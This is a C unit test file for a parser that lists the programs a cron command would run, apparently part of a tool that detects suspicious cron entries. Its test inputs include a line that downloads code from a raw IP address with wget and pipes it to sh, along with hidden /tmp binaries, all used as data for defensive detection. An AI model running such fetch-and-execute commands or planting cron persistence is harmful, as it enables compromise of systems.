/* test_cron_command.c - which programs a cron command runs. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "artifacts/cron_command.h"

/* Expected program: word, cwd (NULL = none), interpreter (NULL = not a
 * script). */
typedef struct want {
    const char *word, *cwd, *interp;
} want;

#define END { NULL, NULL, NULL }

static void fmt_progs(char *buf, size_t sz, const ms_cmd_prog *p, size_t n)
{
    size_t off = 0;
    buf[0] = '\0';
    for (size_t i = 0; i < n && off < sz; i++)
        off += (size_t)snprintf(buf + off, sz - off, "[%s cwd=%s script=%d "
                                "interp=%s] ", p[i].word,
                                p[i].cwd ? p[i].cwd : "-", p[i].is_script,
                                p[i].interpreter ? p[i].interpreter : "-");
}

static int str_eq(const char *a, const char *b)
{
    return (!a && !b) || (a && b && strcmp(a, b) == 0);
}

static void check(const char *cmd, const want *w)
{
    ms_cmd_prog *p = NULL;
    size_t n = 99, nw = 0, i;
    char got[4096];

    assert_int_equal(ms_cron_command_programs(cmd, &p, &n), MS_OK);
    while (w[nw].word)
        nw++;
    fmt_progs(got, sizeof got, p, n);
    int ok = n == nw;
    for (i = 0; ok && i < n; i++)
        ok = str_eq(p[i].word, w[i].word) && str_eq(p[i].cwd, w[i].cwd) &&
             str_eq(p[i].interpreter, w[i].interp) &&
             p[i].is_script == (w[i].interp != NULL);
    if (!ok)
        print_error("command: %s\ngot: %s\n", cmd, got);
    ms_cmd_progs_free(p, n);
    assert_true(ok);
}

static void test_brief_examples(void **state)
{
    (void)state;
    check("/var/tmp/qCVwOWA >/dev/null 2>&1",
          (want[]){ { "/var/tmp/qCVwOWA", NULL, NULL }, END });
    check("cd /tmp && ./x >/dev/null",
          (want[]){ { "./x", "/tmp", NULL }, END });
    check("sh -c '/tmp/a; /tmp/b'",
          (want[]){ { "/tmp/a", NULL, NULL }, { "/tmp/b", NULL, NULL }, END });
    check("perl /tmp/.x/run.pl",
          (want[]){ { "perl", NULL, NULL },
                    { "/tmp/.x/run.pl", NULL, "perl" }, END });
    check("PATH=/tmp:$PATH qCVwOWA",
          (want[]){ { "qCVwOWA", NULL, NULL }, END });
    check("test -x /usr/lib/php/sessionclean && /usr/lib/php/sessionclean",
          (want[]){ { "/usr/lib/php/sessionclean", NULL, NULL }, END });
    check("[ -x /usr/sbin/dma ] && /usr/sbin/dma -q1",
          (want[]){ { "/usr/sbin/dma", NULL, NULL }, END });
    check("command -v debian-sa1 > /dev/null && debian-sa1 1 1",
          (want[]){ { "debian-sa1", NULL, NULL }, END });
    check("/usr/bin/wget -q -O- http://194.54.81.163/x | sh",
          (want[]){ { "/usr/bin/wget", NULL, NULL }, { "sh", NULL, NULL },
                    END });
    check("nice -n 19 ionice -c3 /opt/backup.sh",
          (want[]){ { "/opt/backup.sh", NULL, NULL }, END });
    check("\"/tmp/with space/x\"",
          (want[]){ { "/tmp/with space/x", NULL, NULL }, END });
    check("`/tmp/x`", (want[]){ { "/tmp/x", NULL, NULL }, END });
}

static void test_redirections(void **state)
{
    (void)state;
    check("/a 2>>/var/log/x.log </dev/null",
          (want[]){ { "/a", NULL, NULL }, END });
    check(">/dev/null 2>&1 /b", (want[]){ { "/b", NULL, NULL }, END });
    check("/c &>/dev/null", (want[]){ { "/c", NULL, NULL }, END });
    check("/c &>>/tmp/log; /d 1>&2 3>&-",
          (want[]){ { "/c", NULL, NULL }, { "/d", NULL, NULL }, END });
    check("/e > \"/tmp/out file\"", (want[]){ { "/e", NULL, NULL }, END });
    /* the redirect target is never a program */
    check("/f >/tmp/notaprog", (want[]){ { "/f", NULL, NULL }, END });
    /* digits not followed by < or > are an ordinary word */
    check("/g 2 >x", (want[]){ { "/g", NULL, NULL }, END });
}

static void test_separators_and_groups(void **state)
{
    (void)state;
    check("/a; /b && /c || /d | /e & /f",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL },
                    { "/c", NULL, NULL }, { "/d", NULL, NULL },
                    { "/e", NULL, NULL }, { "/f", NULL, NULL }, END });
    check("(cd /tmp && ./x); ./y",
          (want[]){ { "./x", "/tmp", NULL }, { "./y", NULL, NULL }, END });
    check("{ /a; /b; } >/dev/null",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL }, END });
    check("if [ -f /x ]; then /y; else /z; fi",
          (want[]){ { "/y", NULL, NULL }, { "/z", NULL, NULL }, END });
    check("for i in 1 2 3; do /w $i; done",
          (want[]){ { "/w", NULL, NULL }, END });
    check("while true; do /loop; sleep 5; done",
          (want[]){ { "/loop", NULL, NULL }, { "sleep", NULL, NULL }, END });
    check("[[ -f /a && -x /b ]] && /c",
          (want[]){ { "/c", NULL, NULL }, END });
    check("/a # /not-a-program", (want[]){ { "/a", NULL, NULL }, END });
    check("! /neg", (want[]){ { "/neg", NULL, NULL }, END });
}

static void test_cd(void **state)
{
    (void)state;
    check("cd /opt/app; ./run && bin/x",
          (want[]){ { "./run", "/opt/app", NULL },
                    { "bin/x", "/opt/app", NULL }, END });
    check("cd /opt && cd app && ./run",
          (want[]){ { "./run", "/opt/app", NULL }, END });
    check("cd && ./x", (want[]){ { "./x", "$HOME", NULL }, END });
    check("cd \"/tmp/a b\" && ./x",
          (want[]){ { "./x", "/tmp/a b", NULL }, END });
    /* piped cd runs in a subshell: no effect */
    check("cd /tmp | ./x", (want[]){ { "./x", NULL, NULL }, END });
    check("env -C /srv ./x", (want[]){ { "./x", "/srv", NULL }, END });
}

static void test_quotes(void **state)
{
    (void)state;
    check("'/tmp/a b'", (want[]){ { "/tmp/a b", NULL, NULL }, END });
    check("/tmp/a\\ b", (want[]){ { "/tmp/a b", NULL, NULL }, END });
    check("\"/tmp/\"x'y'", (want[]){ { "/tmp/xy", NULL, NULL }, END });
    check("$'/tmp/\\x'", (want[]){ { "/tmp/\\x", NULL, NULL }, END });
    check("\"$HOME/bin/x\"", (want[]){ { "$HOME/bin/x", NULL, NULL }, END });
    check("$HOME/bin/x --flag", (want[]){ { "$HOME/bin/x", NULL, NULL },
                                          END });
    check("${DIR}/x", (want[]){ { "${DIR}/x", NULL, NULL }, END });
    /* unterminated quote: keep what is there */
    check("'/tmp/x", (want[]){ { "/tmp/x", NULL, NULL }, END });
    /* an empty command word runs nothing; /x is only its argument */
    check("\"\" /x", (want[]){ END });
}

static void test_wrappers(void **state)
{
    (void)state;
    check("exec /a", (want[]){ { "/a", NULL, NULL }, END });
    check("nohup /a &", (want[]){ { "/a", NULL, NULL }, END });
    check("timeout 30 /a", (want[]){ { "/a", NULL, NULL }, END });
    check("timeout -s KILL -k 5 1h /a",
          (want[]){ { "/a", NULL, NULL }, END });
    check("env -i FOO=1 BAR=2 /a", (want[]){ { "/a", NULL, NULL }, END });
    check("env - /a", (want[]){ { "/a", NULL, NULL }, END });
    check("/usr/bin/env -u HOME /a", (want[]){ { "/a", NULL, NULL }, END });
    check("flock -n /var/lock/x /a arg",
          (want[]){ { "/a", NULL, NULL }, END });
    check("flock /var/lock/x -c '/b; /c'",
          (want[]){ { "/b", NULL, NULL }, { "/c", NULL, NULL }, END });
    check("flock -w 10 -c /d /var/lock/x",
          (want[]){ { "/d", NULL, NULL }, END });
    check("ionice -c 3 -n7 /a", (want[]){ { "/a", NULL, NULL }, END });
    check("ionice -p 123", (want[]){ END });
    check("sudo -u www-data /usr/bin/php /var/www/cron.php",
          (want[]){ { "/usr/bin/php", NULL, NULL },
                    { "/var/www/cron.php", NULL, "/usr/bin/php" }, END });
    check("sudo -E -u nobody FOO=1 /a",
          (want[]){ { "/a", NULL, NULL }, END });
    check("nice -19 /a", (want[]){ { "/a", NULL, NULL }, END });
    check("nice --adjustment=5 nohup timeout 10 /a",
          (want[]){ { "/a", NULL, NULL }, END });
    check("command /a", (want[]){ { "/a", NULL, NULL }, END });
    check("time -p /a", (want[]){ { "/a", NULL, NULL }, END });
    check("/usr/bin/time -f %e -o /tmp/t /a",
          (want[]){ { "/a", NULL, NULL }, END });
    check("su - www-data -c '/srv/x.sh'",
          (want[]){ { "/srv/x.sh", NULL, NULL }, END });
    check("su -c \"/srv/y\" root", (want[]){ { "/srv/y", NULL, NULL },
                                              END });
    check("su www-data", (want[]){ END });
    check("env -S 'perl -w' /tmp/s.pl",
          (want[]){ { "perl", NULL, NULL }, { "/tmp/s.pl", NULL, "perl" },
                    END });
    check("taskset -c 0,1 /a", (want[]){ { "/a", NULL, NULL }, END });
    check("stdbuf -oL /a", (want[]){ { "/a", NULL, NULL }, END });
}

static void test_interpreters(void **state)
{
    (void)state;
    check("/usr/bin/perl /tmp/x",
          (want[]){ { "/usr/bin/perl", NULL, NULL },
                    { "/tmp/x", NULL, "/usr/bin/perl" }, END });
    check("perl -w -MIO::Socket /tmp/x arg",
          (want[]){ { "perl", NULL, NULL }, { "/tmp/x", NULL, "perl" },
                    END });
    check("perl -e 'system(\"/tmp/x\")'",
          (want[]){ { "perl", NULL, NULL }, END });
    check("perl -we 'print 1'", (want[]){ { "perl", NULL, NULL }, END });
    check("python3 /opt/s.py", (want[]){ { "python3", NULL, NULL },
                                        { "/opt/s.py", NULL, "python3" },
                                        END });
    check("python3.11 -u /opt/s.py",
          (want[]){ { "python3.11", NULL, NULL },
                    { "/opt/s.py", NULL, "python3.11" }, END });
    check("python -c 'import os'", (want[]){ { "python", NULL, NULL }, END });
    check("python3 -m http.server", (want[]){ { "python3", NULL, NULL },
                                             END });
    check("php -q /var/www/cron.php",
          (want[]){ { "php", NULL, NULL },
                    { "/var/www/cron.php", NULL, "php" }, END });
    check("php -f /a.php", (want[]){ { "php", NULL, NULL },
                                    { "/a.php", NULL, "php" }, END });
    check("php -r 'echo 1;'", (want[]){ { "php", NULL, NULL }, END });
    check("ruby -e 'x'", (want[]){ { "ruby", NULL, NULL }, END });
    check("ruby /r.rb", (want[]){ { "ruby", NULL, NULL },
                                 { "/r.rb", NULL, "ruby" }, END });
    check("node /n.js", (want[]){ { "node", NULL, NULL },
                                 { "/n.js", NULL, "node" }, END });
    check("node --eval 'x'", (want[]){ { "node", NULL, NULL }, END });
    check("bash /tmp/s.sh", (want[]){ { "bash", NULL, NULL },
                                     { "/tmp/s.sh", NULL, "bash" }, END });
    check("cd /tmp && sh ./s.sh",
          (want[]){ { "sh", "/tmp", NULL }, { "./s.sh", "/tmp", "sh" },
                    END });
    check("bash -lc '/a && /b'",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL }, END });
    check("/bin/sh -e -c \"/a\"", (want[]){ { "/a", NULL, NULL }, END });
    check("bash -o pipefail -c '/a | /b'",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL }, END });
    check("sh -s < /tmp/script", (want[]){ { "sh", NULL, NULL }, END });
    check("sh -c 'cd /tmp && ./x'",
          (want[]){ { "./x", "/tmp", NULL }, END });
    /* a shell-looking name that is not a shell */
    check("shred -u /tmp/f", (want[]){ { "shred", NULL, NULL }, END });
    check(". /etc/profile; /a",
          (want[]){ { "/etc/profile", NULL, "." }, { "/a", NULL, NULL },
                    END });
}

static void test_builtins(void **state)
{
    (void)state;
    check("true", (want[]){ END });
    check(": ; echo hi; exit 0", (want[]){ END });
    check("/bin/echo hi", (want[]){ { "/bin/echo", NULL, NULL }, END });
    check("export A=1; /a", (want[]){ { "/a", NULL, NULL }, END });
    check("A=1 B=2", (want[]){ END });
    check("eval '/tmp/e1; /tmp/e2'",
          (want[]){ { "/tmp/e1", NULL, NULL }, { "/tmp/e2", NULL, NULL },
                    END });
    check("command -V x", (want[]){ END });
}

static void test_substitution(void **state)
{
    (void)state;
    check("/a $(/b) `/c`",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL },
                    { "/c", NULL, NULL }, END });
    check("X=$(/usr/bin/id -u) /a",
          (want[]){ { "/a", NULL, NULL }, { "/usr/bin/id", NULL, NULL },
                    END });
    check("$(/tmp/which-prog) arg",
          (want[]){ { "/tmp/which-prog", NULL, NULL }, END });
    check("/a \"$(/b \"q\")\"",
          (want[]){ { "/a", NULL, NULL }, { "/b", NULL, NULL }, END });
    check("/a $(( 1 + 2 ))", (want[]){ { "/a", NULL, NULL }, END });
    check("diff <(/x) <(/y)",
          (want[]){ { "diff", NULL, NULL }, { "/x", NULL, NULL },
                    { "/y", NULL, NULL }, END });
    check("cd /tmp && $(./gen)",
          (want[]){ { "./gen", "/tmp", NULL }, END });
    check("/a `echo \\`/nested\\``",
          (want[]){ { "/a", NULL, NULL }, { "/nested", NULL, NULL }, END });
}

static void test_bounds(void **state)
{
    (void)state;
    ms_cmd_prog *p = NULL;
    size_t n = 0;
    char *big = malloc(MS_CMD_MAX_LEN + 10);
    assert_non_null(big);

    /* too long: refused */
    memset(big, 'a', MS_CMD_MAX_LEN + 5);
    big[MS_CMD_MAX_LEN + 5] = '\0';
    assert_int_equal(ms_cron_command_programs(big, &p, &n), MS_ERR_LIMIT);
    assert_null(p);
    assert_int_equal(n, 0);

    /* 200 programs: first MS_CMD_MAX_PROGS kept, truncation reported */
    int trunc = 0;
    size_t off = 0;
    for (int i = 0; i < 200; i++)
        off += (size_t)sprintf(big + off, "/p%d;", i);
    assert_int_equal(ms_cron_command_programs_ex(big, &p, &n, &trunc),
                     MS_OK);
    assert_true(trunc);
    assert_int_equal(n, MS_CMD_MAX_PROGS);
    assert_string_equal(p[0].word, "/p0");
    assert_string_equal(p[n - 1].word, "/p63");
    ms_cmd_progs_free(p, n);
    /* the plain call returns the same list */
    assert_int_equal(ms_cron_command_programs(big, &p, &n), MS_OK);
    assert_int_equal(n, MS_CMD_MAX_PROGS);
    ms_cmd_progs_free(p, n);

    /* nesting deeper than MS_CMD_MAX_DEPTH: outer levels still found */
    strcpy(big, "/l0 $(/l1 $(/l2 $(/l3 $(/l4 $(/l5 $(/l6))))))");
    assert_int_equal(ms_cron_command_programs_ex(big, &p, &n, &trunc),
                     MS_OK);
    assert_true(trunc);
    assert_int_equal(n, MS_CMD_MAX_DEPTH + 1);
    assert_string_equal(p[0].word, "/l0");
    assert_string_equal(p[4].word, "/l4");
    ms_cmd_progs_free(p, n);

    /* deep parentheses cost no stack */
    memset(big, '(', 50000);
    strcpy(big + 50000, "/deep");
    assert_int_equal(ms_cron_command_programs_ex(big, &p, &n, &trunc),
                     MS_OK);
    assert_false(trunc);
    assert_int_equal(n, 1);
    assert_string_equal(p[0].word, "/deep");
    ms_cmd_progs_free(p, n);
    memset(big, 0, 10);
    strcpy(big, "$(");
    memset(big + 2, '(', 50000);
    big[50002] = '\0';
    /* an unclosed $(( is arithmetic used as the command word: reported
     * as written, like "$CMD" */
    assert_int_equal(ms_cron_command_programs(big, &p, &n), MS_OK);
    assert_int_equal(n, 1);
    assert_memory_equal(p[0].word, "$(((", 4);
    ms_cmd_progs_free(p, n);

    assert_int_equal(ms_cron_command_programs(NULL, &p, &n), MS_ERR_ARG);
    assert_int_equal(ms_cron_command_programs("x", NULL, &n), MS_ERR_ARG);
    assert_int_equal(ms_cron_command_programs("", &p, &n), MS_OK);
    assert_int_equal(n, 0);
    free(big);
}

/* Random bytes and random shell-ish text must never crash (run under
 * ASan/UBSan to make this meaningful). */
static void test_fuzz(void **state)
{
    (void)state;
    static const char alphabet[] = "ab/ -$()`'\"\\;&|<>{}#=\n\t012c";
    unsigned long long seed = 0x5eed1234ULL;
    char buf[512];

    for (int iter = 0; iter < 5000; iter++) {
        size_t len = 0, want_len;
        seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
        want_len = (size_t)(seed >> 33) % (sizeof buf - 1);
        for (len = 0; len < want_len; len++) {
            seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
            unsigned r = (unsigned)(seed >> 33);
            buf[len] = iter % 2 ? (char)(r % 255 + 1)
                                : alphabet[r % (sizeof alphabet - 1)];
        }
        buf[len] = '\0';
        ms_cmd_prog *p = NULL;
        size_t n = 0;
        assert_int_equal(ms_cron_command_programs(buf, &p, &n), MS_OK);
        assert_true(n <= MS_CMD_MAX_PROGS);
        for (size_t i = 0; i < n; i++)
            assert_non_null(p[i].word);
        ms_cmd_progs_free(p, n);
    }
}

/* which programs run only after a test finds them.  Lines
 * re-typed from Debian packages' cron.d files (php, sysstat) and Debian's
 * /etc/crontab. */
static void check_guards(const char *cmd, const char *const *words,
                         const int *guarded)
{
    ms_cmd_prog *p = NULL;
    size_t n = 0, nw = 0;
    assert_int_equal(ms_cron_command_programs(cmd, &p, &n), MS_OK);
    while (words[nw])
        nw++;
    if (n != nw)
        print_error("%s: %zu programs, want %zu\n", cmd, n, nw);
    assert_int_equal(n, nw);
    for (size_t i = 0; i < n; i++) {
        if (strcmp(p[i].word, words[i]) || p[i].guarded != guarded[i])
            print_error("%s: program %zu %s guarded=%d\n", cmd, i, p[i].word,
                        p[i].guarded);
        assert_string_equal(p[i].word, words[i]);
        assert_int_equal(p[i].guarded, guarded[i]);
    }
    ms_cmd_progs_free(p, n);
}

static void test_guards(void **state)
{
    (void)state;
    /* Debian php (older) */
    check_guards("[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
                 (const char *[]){ "/usr/lib/php/sessionclean", NULL },
                 (int[]){ 1 });
    /* Debian php (newer): the guard spans an if */
    check_guards("[ -x /usr/lib/php/sessionclean ] && if [ ! -d "
                 "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                 (const char *[]){ "/usr/lib/php/sessionclean", NULL },
                 (int[]){ 1 });
    /* Debian sysstat */
    check_guards("command -v debian-sa1 > /dev/null && debian-sa1 1 1",
                 (const char *[]){ "debian-sa1", NULL }, (int[]){ 1 });
    check_guards("test -x /usr/lib/x/y && /usr/lib/x/y --run",
                 (const char *[]){ "/usr/lib/x/y", NULL }, (int[]){ 1 });
    check_guards("if [ -f /opt/a ]; then /opt/a; fi",
                 (const char *[]){ "/opt/a", NULL }, (int[]){ 1 });
    check_guards("[ -x /opt/a ] || exit 0; /opt/a",
                 (const char *[]){ "/opt/a", NULL }, (int[]){ 1 });
    /* Debian /etc/crontab: anacron is tested, run-parts runs when it is
     * absent; neither is guarded */
    check_guards("test -x /usr/sbin/anacron || ( cd / && run-parts --report "
                 "/etc/cron.daily )",
                 (const char *[]){ "run-parts", NULL }, (int[]){ 0 });
    /* a test for another program guards nothing */
    check_guards("[ -x /opt/a ] && /var/tmp/qCVwOWA",
                 (const char *[]){ "/var/tmp/qCVwOWA", NULL }, (int[]){ 0 });
    /* the guard ends with its && chain */
    check_guards("[ -x /opt/a ] && /opt/a; /opt/a",
                 (const char *[]){ "/opt/a", "/opt/a", NULL },
                 (int[]){ 1, 0 });
    /* bash/ksh double brackets and the other file tests */
    check_guards("[[ -x /usr/lib/php/sessionclean ]] && "
                 "/usr/lib/php/sessionclean",
                 (const char *[]){ "/usr/lib/php/sessionclean", NULL },
                 (int[]){ 1 });
    check_guards("[[ -f /opt/b ]] && /opt/b --x",
                 (const char *[]){ "/opt/b", NULL }, (int[]){ 1 });
    check_guards("test -e /opt/c && /opt/c",
                 (const char *[]){ "/opt/c", NULL }, (int[]){ 1 });
    check_guards("[ -e /opt/c ] && /opt/c",
                 (const char *[]){ "/opt/c", NULL }, (int[]){ 1 });
    check_guards("if [[ -x /opt/d ]]; then /opt/d; fi",
                 (const char *[]){ "/opt/d", NULL }, (int[]){ 1 });
    check_guards("[[ -x /opt/e ]] || exit 0; /opt/e",
                 (const char *[]){ "/opt/e", NULL }, (int[]){ 1 });
    /* a [[ test of another file, or one that is no file test, guards
     * nothing */
    check_guards("[[ -x /opt/a ]] && /var/tmp/qCVwOWA",
                 (const char *[]){ "/var/tmp/qCVwOWA", NULL }, (int[]){ 0 });
    check_guards("[[ -n /opt/f ]] && /opt/f",
                 (const char *[]){ "/opt/f", NULL }, (int[]){ 0 });
    /* "||" without exit: the program runs when the test fails */
    check_guards("[ -x /opt/a ] || /opt/a",
                 (const char *[]){ "/opt/a", NULL }, (int[]){ 0 });
}

static void test_reads_stdin(void **state)
{
    (void)state;
    assert_true(ms_cron_command_reads_stdin("/bin/sh "));
    assert_true(ms_cron_command_reads_stdin("bash -s"));
    assert_true(ms_cron_command_reads_stdin("nohup /bin/sh >/dev/null 2>&1"));
    assert_false(ms_cron_command_reads_stdin("/bin/sh /tmp/x"));
    assert_false(ms_cron_command_reads_stdin("/bin/sh -c 'ls'"));
    assert_false(ms_cron_command_reads_stdin("echo ls | /bin/sh"));
    assert_false(ms_cron_command_reads_stdin("/usr/bin/mail root"));
    assert_false(ms_cron_command_reads_stdin(NULL));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_guards),
        cmocka_unit_test(test_reads_stdin),
        cmocka_unit_test(test_brief_examples),
        cmocka_unit_test(test_redirections),
        cmocka_unit_test(test_separators_and_groups),
        cmocka_unit_test(test_cd),
        cmocka_unit_test(test_quotes),
        cmocka_unit_test(test_wrappers),
        cmocka_unit_test(test_interpreters),
        cmocka_unit_test(test_builtins),
        cmocka_unit_test(test_substitution),
        cmocka_unit_test(test_bounds),
        cmocka_unit_test(test_fuzz),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
